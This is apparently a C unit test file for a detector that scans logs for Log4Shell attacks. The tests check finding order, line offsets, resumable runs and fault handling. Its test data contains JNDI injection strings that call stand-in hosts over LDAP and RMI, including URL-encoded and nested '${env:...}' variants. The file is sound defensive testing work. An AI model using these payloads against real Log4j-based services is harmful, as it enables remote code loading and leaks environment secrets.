/* Running a source: the same findings in the same order from any number of workers, right lines and offsets, and runs that
 * go on where one stopped. */
#include "support/fault_alloc.h"
#include "support/random.h"

#include "base/limits.h"
#include "os/sys.h"
#include "os/thread.h"
#include "pipeline/run.h"

#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cmocka.h>

enum { LOG_MAX = 12 << 20, FOUND_MAX = 20000 };

struct log {
    unsigned char *p;
    size_t n;
    size_t attacks;
    uint64_t lines;
};

struct found {
    uint64_t line, offset;
    unsigned char id[16];
};

struct seen {
    struct found v[FOUND_MAX];
    size_t n, sightings;
    unsigned calls, stop_at; /* 0: never */
    int shrinks;             /* 0, or a file ... */
    size_t shrink_at, to;    /* ... that is cut to so many bytes when so many findings were seen */
};

static void put(struct log *l, const char *text, size_t n)
{
    assert_true(l->n + n <= LOG_MAX);
    memcpy(l->p + l->n, text, n);
    l->n += n;
}

static void fill(struct log *l, char c, size_t n)
{
    assert_true(l->n + n <= LOG_MAX);
    memset(l->p + l->n, c, n);
    l->n += n;
}

/* Lines of every length around the block's and the window's, some with an attack at their end. */
static struct log make_log(struct rng *r, bool newline_at_end)
{
    struct log l = {.p = malloc(LOG_MAX)};
    assert_non_null(l.p);
    enum { LONGEST = CT_BLOCK + 300000, WITH_ATTACK = LONGEST + 100 };
    while (l.n < LOG_MAX - WITH_ATTACK) {
        unsigned kind = rng_below(r, 400);
        size_t n = kind == 0   ? CT_BLOCK - 200 + rng_below(r, 400)
                   : kind == 1 ? CT_BLOCK + rng_below(r, LONGEST - CT_BLOCK)
                   : kind == 2 ? CT_WINDOW - 100 + rng_below(r, 200)
                   : kind < 20 ? 0
                               : rng_below(r, 3000);
        fill(&l, 'a', n);
        if (rng_below(r, 4) == 0) {
            char text[64];
            int m = snprintf(text, sizeof text, "${jndi:ldap://h%u.example/a}", rng_below(r, 1000000));
            put(&l, text, (size_t)m);
            l.attacks++;
        }
        put(&l, "\n", 1);
        l.lines++;
    }
    if (!newline_at_end) l.n--;
    return l;
}

static ct_err on_finding(void *ctx, const struct ct_finding *f)
{
    struct seen *s = ctx;
    assert_true(s->n < FOUND_MAX);
    struct found *to = &s->v[s->n++];
    *to = (struct found){.line = f->attempt.line, .offset = f->attempt.offset};
    memcpy(to->id, f->attempt.id, sizeof to->id);
    if (s->shrinks && s->n == s->shrink_at) assert_int_equal(ftruncate(s->shrinks, (off_t)s->to), 0);
    return CT_OK;
}

static void on_sighting(void *ctx, const struct ct_sighting *g)
{
    (void)g;
    ((struct seen *)ctx)->sightings++;
}

static bool on_between(void *ctx, uint64_t consumed, uint64_t size)
{
    struct seen *s = ctx;
    (void)consumed, (void)size;
    return s->stop_at && ++s->calls >= s->stop_at;
}

static int memory_file(const struct log *l, size_t n)
{
    int fd = memfd_create("log", MFD_CLOEXEC);
    assert_true(fd >= 0);
    for (size_t at = 0; at < n;) {
        ssize_t done = write(fd, l->p + at, n - at);
        assert_true(done > 0);
        at += (size_t)done;
    }
    return fd;
}

static const struct ct_scan_opts scan_opts = {.format = CT_FORMAT_AUTO, .min_grade = CT_GRADE_LEAK, .since_us = CT_TIME_NONE,
                                              .until_us = CT_TIME_NONE, .year = 2021};

static struct ct_fault last_fault;

static ct_err run(const struct ct_alloc *alloc, int fd, unsigned workers, const struct ct_run_from *from, struct seen *s,
                  struct ct_run_report *ret_report)
{
    char path[40];
    ct_runner *r = NULL;
    ct_source *source = NULL;
    struct ct_run_handlers handlers = {s, on_finding, on_sighting, on_between};
    last_fault = (struct ct_fault){0};
    (void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    CT_TRY(ct_runner_new(alloc, &scan_opts, workers, &r));
    ct_err e = ct_source_open(alloc, path, &source, &last_fault);
    if (e == CT_OK) e = ct_run_source(r, source, CT_STR("a.log"), from, &handlers, ret_report, &last_fault);
    ct_source_close(source);
    ct_runner_free(r);
    return e;
}

/* A signal that comes just when it has been asked whether to stop, at each place where that is asked. */
static atomic_int signalled; /* whichever thread takes it */
static atomic_uint times_asked;
static unsigned signal_at;

static void on_signal(int number) { signalled = number; }

static bool on_between_signal(void *ctx, uint64_t consumed, uint64_t size)
{
    (void)ctx, (void)consumed, (void)size;
    bool stop = signalled != 0;
    if (atomic_fetch_add(&times_asked, 1) + 1 == signal_at) (void)kill(getpid(), SIGINT);
    return stop;
}

static void no_signal_is_missed(void **state)
{
    (void)state;
    struct seen *s = calloc(1, sizeof *s);
    struct sigaction caught = {.sa_handler = on_signal}, before;
    assert_non_null(s);
    assert_int_equal(sigaction(SIGINT, &caught, &before), 0);
    (void)alarm(60); /* a wait that no signal ends is ended by this one */
    for (unsigned workers = 1; workers <= 3; workers += 2)
        for (signal_at = 1; signal_at <= 4; signal_at++) {
            static const char text[] = "a ${jndi:ldap://h.example/a}\n";
            struct ct_run_handlers handlers = {s, on_finding, on_sighting, on_between_signal};
            struct ct_run_from start = {0};
            struct ct_run_report report;
            ct_runner *r = NULL;
            ct_source *source = NULL;
            char path[40];
            int ends[2];
            signalled = 0;
            times_asked = 0;
            assert_int_equal(pipe2(ends, O_CLOEXEC), 0); /* its other end stays open */
            assert_int_equal(write(ends[1], text, sizeof text - 1), sizeof text - 1);
            (void)snprintf(path, sizeof path, "/proc/self/fd/%d", ends[0]);
            assert_int_equal(ct_runner_new(&ct_alloc_libc, &scan_opts, workers, &r), CT_OK);
            assert_int_equal(ct_source_open(&ct_alloc_libc, path, &source, &last_fault), CT_OK);
            assert_int_equal(ct_run_source(r, source, CT_STR("pipe"), &start, &handlers, &report, &last_fault), CT_ERR_INTERRUPTED);
            ct_source_close(source);
            ct_runner_free(r);
            (void)close(ends[0]);
            (void)close(ends[1]);
        }
    (void)alarm(0);
    assert_int_equal(sigaction(SIGINT, &before, NULL), 0);
    free(s);
}

static unsigned threads_begun;
int __real_ct_thread_beside(pthread_t *ret_thread, void *(*body)(void *), void *arg);
int __wrap_ct_thread_beside(pthread_t *ret_thread, void *(*body)(void *), void *arg);

int __wrap_ct_thread_beside(pthread_t *ret_thread, void *(*body)(void *), void *arg)
{
    threads_begun++;
    return __real_ct_thread_beside(ret_thread, body, arg);
}

/* A folder of small files costs no thread each; a large file has as many as there are workers. */
static void threads_are_begun_for_what_is_there(void **state)
{
    (void)state;
    static const struct {
        size_t size;
        unsigned threads; /* of three beside the first */
    } cases[] = {{0, 0}, {1, 0}, {CT_BLOCK - 1, 0}, {CT_BLOCK, 0}, {CT_BLOCK + 1, 1}, {2 * CT_BLOCK, 1}, {3 * CT_BLOCK, 2}, {3 * CT_BLOCK + 1, 3}, {LOG_MAX, 3}};
    struct log l = {.p = malloc(LOG_MAX)};
    struct seen *s = calloc(1, sizeof *s);
    assert_true(l.p && s);
    while (l.n < LOG_MAX) put(&l, "0123456 89abcde\n", 16);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        int fd = memory_file(&l, cases[i].size);
        struct ct_run_from start = {0};
        struct ct_run_report report;
        threads_begun = 0;
        assert_int_equal(run(&ct_alloc_libc, fd, 4, &start, s, &report), CT_OK);
        assert_int_equal(report.tally.bytes, cases[i].size);
        assert_int_equal(threads_begun, cases[i].threads);
        (void)close(fd);
    }
    free(l.p);
    free(s);
}

/* Each finding stands in the line it names, which starts at the offset it names. */
static void check_places(const struct log *l, const struct seen *s)
{
    uint64_t line = 1, at = 0;
    for (size_t i = 0; i < s->n; i++) {
        assert_true(s->v[i].line >= line);
        for (; line < s->v[i].line; line++) {
            const unsigned char *nl = memchr(l->p + at, '\n', l->n - at);
            assert_non_null(nl);
            at = (uint64_t)(nl - l->p) + 1;
        }
        assert_int_equal(s->v[i].offset, at);
    }
}

static void workers_agree(void **state)
{
    (void)state;
    struct rng r = rng_new("pipeline_run");
    struct seen *one = calloc(1, sizeof *one), *many = calloc(1, sizeof *many);
    assert_true(one && many);
    for (unsigned round = 0; round < 4; round++) {
        struct log l = make_log(&r, round % 2 == 0);
        int fd = memory_file(&l, l.n);
        struct ct_run_from start = {0};
        struct ct_run_report report;
        memset(one, 0, sizeof *one);
        assert_int_equal(run(&ct_alloc_libc, fd, 1, &start, one, &report), CT_OK);
        assert_int_equal(one->n, l.attacks);
        assert_int_equal(report.tally.lines, l.lines);
        assert_int_equal(report.tally.bytes, l.n);
        assert_int_equal(report.next.offset, l.n);
        assert_int_equal(report.next.line, l.lines);
        check_places(&l, one);
        for (unsigned workers = 2; workers <= 5; workers++) {
            memset(many, 0, sizeof *many);
            assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, many, &report), CT_OK);
            assert_int_equal(many->n, one->n);
            assert_memory_equal(many->v, one->v, one->n * sizeof *one->v);
            assert_int_equal(report.tally.lines, l.lines);
        }
        (void)close(fd);
        free(l.p);
    }
    free(one);
    free(many);
}

/* Cut while it is read: a beginning of what it held is found, and a later run goes on behind that. */
static void files_shrink(void **state)
{
    (void)state;
    struct rng r = rng_new("pipeline_run");
    struct seen *all = calloc(1, sizeof *all), *s = calloc(1, sizeof *s);
    assert_true(all && s);
    for (unsigned round = 0; round < 12; round++) {
        struct log l = make_log(&r, true);
        int fd = memory_file(&l, l.n);
        struct ct_run_from start = {.whole_lines = true};
        struct ct_run_report report;
        memset(all, 0, sizeof *all);
        assert_int_equal(run(&ct_alloc_libc, fd, 1, &start, all, &report), CT_OK);
        *s = (struct seen){.shrinks = fd, .shrink_at = 1 + rng_below(&r, (uint32_t)all->n), .to = rng_below(&r, (uint32_t)l.n)};
        assert_int_equal(run(&ct_alloc_libc, fd, 1 + round % 4, &start, s, &report), CT_OK);
        assert_true(s->n >= s->shrink_at);
        assert_memory_equal(s->v, all->v, s->n * sizeof *s->v);
        assert_true(s->n == all->n || report.next.offset <= all->v[s->n].offset);
        assert_true(report.next.offset == 0 || l.p[report.next.offset - 1] == '\n');
        (void)close(fd);
        free(l.p);
    }
    free(all);
    free(s);
}

static off_t bad_from;

/* As a disk with a bad sector: what stands before it comes, short. */
static ssize_t bad_pread(int fd, void *to, size_t n, off_t at)
{
    if (at >= bad_from) {
        errno = EIO;
        return -1;
    }
    return pread(fd, to, (off_t)n > bad_from - at ? (size_t)(bad_from - at) : n, at);
}

static ssize_t bad_read(int fd, void *to, size_t n)
{
    off_t at = lseek(fd, 0, SEEK_CUR);
    ssize_t got = bad_pread(fd, to, n, at);
    if (got > 0) (void)lseek(fd, got, SEEK_CUR);
    return got;
}

/* A bad sector ends the source at the same place, whoever meets it. */
static void reads_fail(void **state)
{
    (void)state;
    struct ct_sys bad = ct_sys_kernel;
    bad.read = bad_read;
    bad.pread = bad_pread;
    struct rng r = rng_new("pipeline_run");
    struct seen *one = calloc(1, sizeof *one), *many = calloc(1, sizeof *many);
    assert_true(one && many);
    for (unsigned round = 0; round < 8; round++) {
        struct log l = make_log(&r, true);
        int fd = memory_file(&l, l.n);
        struct ct_run_from start = {.whole_lines = round % 2};
        struct ct_run_report first, report;
        bad_from = 4096 + rng_below(&r, (uint32_t)l.n - 4096);
        ct_sys = &bad;
        memset(one, 0, sizeof *one);
        assert_int_equal(run(&ct_alloc_libc, fd, 1, &start, one, &first), CT_ERR_READ);
        for (unsigned workers = 2; workers <= 4; workers++) {
            memset(many, 0, sizeof *many);
            assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, many, &report), CT_ERR_READ);
            assert_int_equal(many->n, one->n);
            assert_memory_equal(many->v, one->v, one->n * sizeof *one->v);
            assert_memory_equal(&report.tally, &first.tally, sizeof first.tally);
            assert_int_equal(report.next.offset, first.next.offset);
            assert_int_equal(last_fault.offset, bad_from);
        }
        ct_sys = &ct_sys_kernel;
        (void)close(fd);
        free(l.p);
    }
    free(one);
    free(many);
}

static int by_id(const void *a, const void *b) { return memcmp(((const struct found *)a)->id, ((const struct found *)b)->id, 16); }

static size_t distinct(struct seen *s)
{
    size_t n = 0;
    qsort(s->v, s->n, sizeof *s->v, by_id);
    for (size_t i = 0; i < s->n; i++) n += i == 0 || by_id(&s->v[i], &s->v[i - 1]) != 0;
    return n;
}

/* The log grows between runs, cut anywhere; runs are interrupted anywhere: nothing is lost, ids stay. */
static void runs_go_on(void **state)
{
    (void)state;
    struct rng r = rng_new("pipeline_run");
    struct seen *all = calloc(1, sizeof *all), *parts = calloc(1, sizeof *parts);
    assert_true(all && parts);
    for (unsigned round = 0; round < 6; round++) {
        struct log l = make_log(&r, true);
        struct ct_run_from at = {0};
        struct ct_run_report report;
        int fd = memory_file(&l, l.n);
        memset(all, 0, sizeof *all);
        memset(parts, 0, sizeof *parts);
        assert_int_equal(run(&ct_alloc_libc, fd, 2, &at, all, &report), CT_OK);
        (void)close(fd);
        bool grows = round % 2 == 0;
        size_t n = grows ? 0 : l.n;
        for (unsigned step = 0; at.offset < l.n; step++) {
            assert_true(step < 1000);
            if (grows) n += n + 1 < l.n ? 1 + rng_below(&r, 900000) : 1;
            if (n > l.n) n = l.n;
            fd = memory_file(&l, n);
            at.whole_lines = true;
            parts->calls = 0;
            parts->stop_at = grows ? 0 : 1 + rng_below(&r, 20) + step / 10;
            ct_err e = run(&ct_alloc_libc, fd, 1 + rng_below(&r, 4), &at, parts, &report);
            assert_true(e == CT_OK || e == CT_ERR_INTERRUPTED);
            assert_true(report.next.offset >= at.offset && report.next.offset <= n);
            assert_true(report.next.offset == 0 || l.p[report.next.offset - 1] == '\n' || l.p[report.next.offset] == '\n');
            at = report.next;
            (void)close(fd);
        }
        check_places(&l, all);
        size_t expected = distinct(all);
        assert_int_equal(distinct(parts), expected);
        for (size_t i = 0, k = 0; i < all->n; i++) { /* the same ids at the same places */
            while (k < parts->n && by_id(&parts->v[k], &all->v[i]) != 0) k++;
            assert_true(k < parts->n);
            assert_int_equal(parts->v[k].line, all->v[i].line);
            assert_int_equal(parts->v[k].offset, all->v[i].offset);
        }
        free(l.p);
    }
    free(all);
    free(parts);
}

/* A block of nothing but shortest attacks is handed over in parts. */
static void dense_blocks(void **state)
{
    (void)state;
    struct log l = {.p = malloc(LOG_MAX)};
    struct seen *s = calloc(1, sizeof *s);
    struct ct_run_from start = {0};
    struct ct_run_report report;
    assert_true(l.p && s);
    for (unsigned i = 0; i < FOUND_MAX; i++) put(&l, "${jndi:rmi://h/a}\n", 18);
    int fd = memory_file(&l, l.n);
    for (unsigned workers = 1; workers <= 3; workers += 2) {
        memset(s, 0, sizeof *s);
        assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, s, &report), CT_OK);
        assert_int_equal(s->n, FOUND_MAX);
        for (unsigned i = 0; i < FOUND_MAX; i++) {
            assert_int_equal(s->v[i].line, i + 1);
            assert_int_equal(s->v[i].offset, 18 * i);
        }
        assert_int_equal(report.tally.lines, FOUND_MAX);
    }
    (void)close(fd);
    free(l.p);
    free(s);
}

/* One attack in the part of a long line that two blocks share, or across their border, is one finding. */
static void long_lines_are_judged_once(void **state)
{
    (void)state;
    struct seen *s = calloc(1, sizeof *s);
    assert_non_null(s);
    for (size_t at = CT_BLOCK - CT_WINDOW_OVERLAP - 100; at < CT_BLOCK + 100; at += 37) {
        struct log l = {.p = malloc(LOG_MAX)};
        struct ct_run_from start = {0};
        struct ct_run_report report;
        assert_non_null(l.p);
        fill(&l, 'a', at);
        put(&l, "${jndi:ldap://h.example/a}", 26);
        fill(&l, 'b', CT_BLOCK);
        put(&l, "\nx\n", 3);
        int fd = memory_file(&l, l.n);
        memset(s, 0, sizeof *s);
        assert_int_equal(run(&ct_alloc_libc, fd, 1, &start, s, &report), CT_OK);
        assert_int_equal(s->n, 1);
        assert_int_equal(s->v[0].line, 1);
        assert_int_equal(s->v[0].offset, 0);
        assert_int_equal(report.tally.lines, 2);
        (void)close(fd);
        free(l.p);
    }
    free(s);
}

/* Stopped within a line of several blocks, a later run starts with that line again. */
static void long_lines_start_again(void **state)
{
    (void)state;
    struct log l = {.p = malloc(LOG_MAX)};
    struct seen *s = calloc(1, sizeof *s);
    assert_true(l.p && s);
    put(&l, "a\n", 2);
    fill(&l, 'b', 5 * CT_BLOCK);
    put(&l, "\n", 1);
    int fd = memory_file(&l, l.n);
    for (unsigned workers = 1; workers <= 3; workers++)
        for (unsigned stop = 1, done = 0; !done; stop++) {
            struct ct_run_from start = {.whole_lines = stop % 2};
            struct ct_run_report report;
            *s = (struct seen){.stop_at = stop};
            ct_err e = run(&ct_alloc_libc, fd, workers, &start, s, &report);
            done = e == CT_OK;
            if (done) assert_int_equal(report.next.offset, l.n);
            else assert_true(report.next.offset == 0 || report.next.offset == 2 || report.next.offset == l.n || !start.whole_lines);
        }
    (void)close(fd);
    free(l.p);
    free(s);
}

/* Pieces of one line are one line, whatever each holds. */
static void long_lines_count_once(void **state)
{
    (void)state;
    static const struct { const char *piece; unsigned lookups; } rows[] = {{"${date:yyyy}", 1}, {"%24%7Bdate:yyyy}", 1}, {"abcdefghijkl", 0}};
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct log l = {.p = malloc(LOG_MAX)};
        struct seen *s = calloc(1, sizeof *s);
        struct ct_run_from start = {0};
        struct ct_run_report report;
        assert_true(l.p && s);
        for (unsigned n = 0; n < 2; n++) {
            for (size_t at = 0; at < 3 * CT_BLOCK; at += 20000) {
                put(&l, rows[i].piece, strlen(rows[i].piece));
                fill(&l, ' ', 20000 - strlen(rows[i].piece));
            }
            put(&l, "\n", 1);
        }
        int fd = memory_file(&l, l.n);
        for (unsigned workers = 1; workers <= 3; workers++) {
            memset(s, 0, sizeof *s);
            assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, s, &report), CT_OK);
            assert_int_equal(report.tally.lines, 2);
            assert_int_equal(report.tally.lookups, 2 * rows[i].lookups);
            assert_int_equal(report.tally.raw_lookups, i == 0 ? 2 : 0);
        }
        (void)close(fd);
        free(l.p);
        free(s);
    }
}

/* Of lines that hold a lookup; a line over several blocks is not asked, for its cuts may fall within a character. */
static void odd_bytes_are_counted(void **state)
{
    (void)state;
    static const char text[] = "caf\xc3\xa9 \xff\0 nothing\ncaf\xc3\xa9 ${date:yyyy}\ncaf\xe9 ${date:yyyy}\n\0${date:yyyy}\0\n\xc3${date:yyyy}\xa9\0\n\0\xff%24%7Bjndi:ldap://h/a}\n";
    for (unsigned workers = 1; workers <= 3; workers++) {
        struct log l = {.p = malloc(LOG_MAX)};
        struct seen *s = calloc(1, sizeof *s);
        struct ct_run_from start = {0};
        struct ct_run_report report;
        assert_true(l.p && s);
        put(&l, text, sizeof text - 1);
        for (size_t i = 0; i < CT_BLOCK; i++) put(&l, "\xc3\xa9", 2);
        put(&l, "${date:yyyy}\n", 13);
        put(&l, text, sizeof text - 1);
        int fd = memory_file(&l, l.n);
        assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, s, &report), CT_OK);
        assert_int_equal(report.tally.lookups, 11);
        assert_int_equal(report.tally.not_utf8, 6);
        assert_int_equal(report.tally.with_nul, 6);
        (void)close(fd);
        free(l.p);
        free(s);
    }
}

static void every_allocation_may_fail(void **state)
{
    (void)state;
    struct log l = {.p = malloc(LOG_MAX)};
    struct seen *s = calloc(1, sizeof *s);
    assert_true(l.p && s);
    for (unsigned i = 0; i < 50; i++) put(&l, "x ${jndi:ldap://h.example/${env:A}} %24%7Bjndi:rmi://g.example/b%7D\n", 68);
    int fd = memory_file(&l, l.n);
    for (int persistent = 0; persistent < 2; persistent++)
        for (unsigned n = 0;; n++) {
            struct fault_alloc f;
            struct ct_run_from start = {0};
            struct ct_run_report report;
            fault_alloc_init(&f, n, persistent);
            memset(s, 0, sizeof *s);
            ct_err e = run(&f.alloc, fd, 1, &start, s, &report);
            assert_int_equal(f.live, 0);
            if (!f.failed) {
                assert_int_equal(e, CT_OK);
                assert_int_equal(s->n, 50);
                break;
            }
            /* Inside a verdict too little memory is an answer of unknown certainty, not an error. */
            assert_true(e == CT_ERR_NOMEM || (e == CT_OK && s->n <= 50));
        }
    (void)close(fd);
    free(l.p);
    free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(threads_are_begun_for_what_is_there), cmocka_unit_test(no_signal_is_missed),
        cmocka_unit_test(workers_agree), cmocka_unit_test(runs_go_on),         cmocka_unit_test(dense_blocks),
        cmocka_unit_test(files_shrink),  cmocka_unit_test(reads_fail),         cmocka_unit_test(long_lines_are_judged_once),
        cmocka_unit_test(long_lines_count_once), cmocka_unit_test(long_lines_start_again), cmocka_unit_test(odd_bytes_are_counted), cmocka_unit_test(every_allocation_may_fail),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
